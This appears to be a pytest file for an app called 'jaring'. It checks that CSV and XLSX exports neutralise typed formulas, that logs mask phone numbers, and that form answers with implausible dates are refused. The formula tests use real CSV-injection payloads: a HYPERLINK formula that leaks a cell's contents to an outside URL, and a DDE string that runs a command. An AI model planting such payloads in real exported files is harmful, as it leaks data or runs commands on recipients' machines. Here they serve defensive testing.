"""Edges that must hold whatever people type (issue 14, findings 6 and 7): exports never run a typed formula,
a number is masked however it is written, a form answer dated in year 9999 is refused, not a crash."""
import datetime as dt
import io
import json
import logging

import pytest

from jaring import logs
from jaring.reports import export as report_export
from jaring.survey import forms
from jaring.phone import mask_numbers
from tests.unit.reports.test_report_views import a_report

FORMULA = '=HYPERLINK("https://contoh.id/?d="&B1,"klik")'
NOW = dt.datetime(2026, 1, 8, 3, 0, tzinfo=dt.timezone.utc)


@pytest.mark.parametrize("typed", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"])
def test_a_typed_formula_arrives_in_the_csv_as_text(typed):
    csv_text = report_export.to_csv(a_report(service=typed)).decode("utf-8-sig")
    assert f"'{typed}" in csv_text.replace('""', '"') or f"'{typed}".replace("\r", "") in csv_text
    assert not any(line.split(",")[1].startswith(("=", "+", "-", "@", "\t"))
                   for line in csv_text.splitlines()[1:] if line.count(",") > 2)


def test_a_typed_formula_is_stored_as_text_in_the_xlsx():
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(report_export.to_xlsx(a_report(service=FORMULA))))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("written", ["+62 812-3456-7890", "0812-3456-7890", "08123456789", "6281234567890",
                                     "0812 3456 7890", "+62.812.3456.7890"])
def test_a_number_is_masked_however_it_is_written(written):
    masked = mask_numbers(f"pesan dari {written} pukul 10.30")
    assert "****" in masked and "3456" not in masked.replace("****", "") and "pukul 10.30" in masked


def test_codes_dates_and_ids_are_not_mistaken_for_numbers():
    for text in ("PIN 123456", "2026-01-08", "P-ABC123", "wamid.HBgM628123456789", "Rp 500.000"):
        assert mask_numbers(text) == text


def test_every_logger_masks_numbers_not_only_jarings(capsys):
    logs.setup()
    logging.getLogger("werkzeug").warning("request from +62 812-3456-7890")
    logging.getLogger("jaring.x").warning("to 0812-3456-7890 and 08123456789")
    out = capsys.readouterr().out
    assert "3456-7890" not in out and "23456789" not in out and out.count("****") == 3


def form(submitted_at):
    return json.dumps({"kind": "skm", "formId": "1skm", "responseId": "r1", "submittedAt": submitted_at,
                       "answers": []}).encode()


@pytest.mark.parametrize("when", ["9999-12-31T23:59:59+14:00", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00+07:00",
                                  "2200-01-01T00:00:00Z", "2019-12-31T23:59:59Z", "2026-01-10T03:00:00Z"])
def test_a_form_answer_dated_outside_a_sane_window_is_refused(when):
    with pytest.raises(forms.FormRejected) as refused:
        forms.parse(form(when), NOW)
    assert 400 <= refused.value.status < 500


def test_a_form_answer_dated_now_or_last_week_is_taken():
    assert forms.parse(form("2026-01-08T02:59:58.000Z"), NOW).submitted_at.year == 2026
    assert forms.parse(form("2026-01-01T10:00:00+07:00"), NOW).submitted_at.day == 1
